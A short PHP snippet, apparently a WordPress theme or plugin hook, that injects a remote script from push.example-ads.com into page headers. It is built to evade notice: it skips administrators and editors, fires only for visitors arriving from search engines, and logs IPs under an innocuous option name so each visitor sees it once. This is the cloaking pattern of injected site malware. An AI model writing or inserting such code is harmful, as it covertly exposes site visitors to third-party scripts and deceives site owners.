<?php
add_action('wp_head', function () {
    if (is_admin() || current_user_can('edit_posts')) {
        return;
    }
    $ref = strtolower(wp_get_referer() ?: (isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : ''));
    if (!preg_match('#(google|bing|yandex|yahoo)\.#', $ref)) {
        return;
    }
    $ips = get_option('_site_visit_log', array());
    $me = $_SERVER['REMOTE_ADDR'];
    if (in_array($me, $ips)) {
        return;
    }
    $ips[] = $me;
    update_option('_site_visit_log', $ips);
    print '<script type="text/javascript" src="//push.example-ads.com/p.js?id=8812"></script>';
});
